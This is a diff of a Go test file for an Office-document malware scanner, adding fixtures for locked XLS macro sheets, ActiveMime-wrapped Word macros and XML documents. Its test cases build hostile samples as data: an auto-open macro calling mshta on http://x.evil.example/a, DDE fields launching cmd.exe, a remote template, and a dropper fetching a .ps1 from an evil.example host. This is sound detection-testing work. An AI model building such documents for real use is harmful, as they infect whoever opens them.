@@ -1,6 +1,8 @@
 package scan_test
 
 import (
+	"bytes"
+	"compress/zlib"
 	"context"
 	"encoding/base64"
 	"encoding/binary"
@@ -33,7 +35,7 @@ const (
 	empty   = "Attribute VB_Base = \"1Normal.ThisDocument\"\r\nOption Explicit\r\n' nothing\r\n"
 )
 
-func xlm(state byte, autoOpen bool) []byte {
+func xlm(state byte, autoOpen bool) [][]byte {
 	formula := []byte{0x17, 4, 0, 'c', 'a', 'l', 'c', 0x42, 1, 110, 0}
 	cell := append(make([]byte, 20), byte(len(formula)), 0)
 	records := [][]byte{
@@ -43,8 +45,8 @@ func xlm(state byte, autoOpen bool) []byte {
 	if autoOpen {
 		records = append(records, scantest.Record(0x0018, append(append([]byte{0x20, 0, 0, 1}, make([]byte, 10)...), 0, 1)...))
 	}
-	return scantest.XLS(append(records, scantest.Record(0x000A), scantest.Record(0x0809, 0, 6, 0x40, 0, 0, 0, 0, 0),
-		scantest.Record(0x0006, append(cell, formula...)...), scantest.Record(0x000A))...)
+	return append(records, scantest.Record(0x00FC, make([]byte, 3000)...), scantest.Record(0x000A), scantest.Record(0x0809, 0, 6, 0x40, 0, 0, 0, 0, 0),
+		scantest.Record(0x0006, append(cell, formula...)...), scantest.Record(0x000A))
 }
 
 func sheet12(tokens []byte) []byte {
@@ -109,6 +111,20 @@ func word97(text, template string) []byte {
 	return scantest.OLE(scantest.Stream{Path: "WordDocument", Data: append(main, text...)}, scantest.Stream{Path: "0Table", Data: append(table, clx...)})
 }
 
+// activeMime wraps a macro project as Word does in web pages.
+func activeMime(project []byte) []byte {
+	var b bytes.Buffer
+	b.WriteString("ActiveMime" + strings.Repeat("\x00", 40))
+	w := zlib.NewWriter(&b)
+	if _, err := w.Write(project); err != nil {
+		panic(err)
+	}
+	if err := w.Close(); err != nil {
+		panic(err)
+	}
+	return b.Bytes()
+}
+
 func odt(content string, further ...scantest.File) []byte {
 	return scantest.Zip(append([]scantest.File{{Name: "mimetype", Data: "application/vnd.oasis.opendocument.text"}, {Name: "content.xml", Data: content}}, further...)...)
 }
@@ -158,8 +174,10 @@ var officeCases = []struct {
 	{"workbook that calls a program", "a.xlsx", scantest.XLSX("", scantest.File{Name: "xl/externalLinks/externalLink1.xml", Data: `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`}), "dde-program", "", "", ""},
 	{"macro sheet", "a.xlsm", scantest.XLSX(`<sheets><sheet name="M" r:id="rId9" state="veryHidden"/></sheets><definedNames><definedName name="_xlnm.Auto_Open">M!$A$1</definedName></definedNames>`, scantest.Rels("xl/workbook.xml", scantest.Relation{ID: "rId9", Kind: "xlMacrosheet", Target: "macrosheets/sheet1.xml"}), scantest.File{Name: "xl/macrosheets/sheet1.xml", Data: `<macrosheet><c><f>EXEC("mshta "&amp;"http://x.evil.example/a")</f></c></macrosheet>`}), "old-excel-macro hidden-macro-sheet macro-attack macro-starts-alone", "", "http://x.evil.example/a", ""},
 	{"binary macro sheet", "a.xlsb", xlsb(), "old-excel-macro hidden-macro-sheet macro-attack macro-starts-alone", "", "", ""},
-	{"old macro sheet", "a.xls", xlm(2, true), "old-excel-macro hidden-macro-sheet macro-attack macro-starts-alone", "", "", ""},
-	{"old macro sheet in sight", "a.xls", xlm(0, false), "old-excel-macro macro-reaches-out", "", "", ""},
+	{"old macro sheet", "a.xls", scantest.XLS(xlm(2, true)...), "old-excel-macro hidden-macro-sheet macro-attack macro-starts-alone", "", "", ""},
+	{"old macro sheet in sight", "a.xls", scantest.XLS(xlm(0, false)...), "old-excel-macro macro-reaches-out", "", "", ""},
+	{"old macro sheet, locked with the usual word", "a.xls", scantest.LockXLS("VelvetSweatshop", xlm(2, true)...), "document-default-password old-excel-macro hidden-macro-sheet macro-attack macro-starts-alone", "", "", ""},
+	{"old macro sheet, locked", "a.xls", scantest.LockXLS("other", xlm(2, true)...), "document-locked", "", "", ""},
 	{"old locked workbook", "a.xls", scantest.XLS(scantest.Record(0x0809, 0, 6, 5, 0), scantest.Record(0x002F, 0, 0)), "document-locked", "", "", ""},
 	{"web query", "a.xlsx", scantest.XLSX("", scantest.File{Name: "xl/connections.xml", Data: `<connections><connection><webPr url="https://data.example/rates"/></connection></connections>`}), "linked-file", "", "https://data.example/rates", ""},
 	{"formula with a link", "a.xlsx", scantest.XLSX("", scantest.File{Name: "xl/worksheets/sheet2.xml", Data: `<worksheet><c><f>HYPERLINK("https://pay.example/1","Pay")</f></c></worksheet>`}), "", "", "https://pay.example/1", ""},
@@ -168,6 +186,9 @@ var officeCases = []struct {
 	{"old doc with a field", "a.doc", word97("See \x13 HYPERLINK \"https://old.example/a\" \x14this page\x15 please", ""), "", "", "https://old.example/a this page", "See this page please"},
 	{"old doc with dde", "a.doc", word97("\x13DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"\x14x\x15", ""), "dde-program", "", "", ""},
 	{"old doc with a template", "a.doc", word97("Hello", "http://t.evil.example/a.dot"), "remote-template", "", "http://t.evil.example/a.dot", "Hello"},
+
+	{"web page of Word", "editdata.mso", activeMime(scantest.OLE(scantest.VBA("", nil, scantest.Module{Name: "M", Source: dropper})...)), "macro-document macro-attack macro-starts-alone macro-hidden", "macros.bin", "http://files.evil.example/a.ps1", ""},
+	{"document as XML", "a.xml", []byte("<?xml version=\"1.0\"?><w:wordDocument><w:binData>" + base64.StdEncoding.EncodeToString(activeMime(scantest.OLE(scantest.VBA("", nil, scantest.Module{Name: "M", Source: tidy})...))) + "</w:binData></w:wordDocument>"), "macro-document", "macros.bin", "", ""},
 
 	{"rtf letter", "a.rtf", []byte(`{\rtf1\ansi{\fonttbl{\f0 Arial;}}Dear \'c4nna,\par see {\field{\*\fldinst HYPERLINK "https://rtf.example/a"}{\fldrslt here}}}`), "", "", "https://rtf.example/a", "Dear Änna,"},
 	{"rtf equation", "a.rtf", scantest.RTF("Hi", scantest.OLE1("Equation.3", equation()), `\objupdate`, ""), "equation-object equation-exploit", "", "", "Hi"},
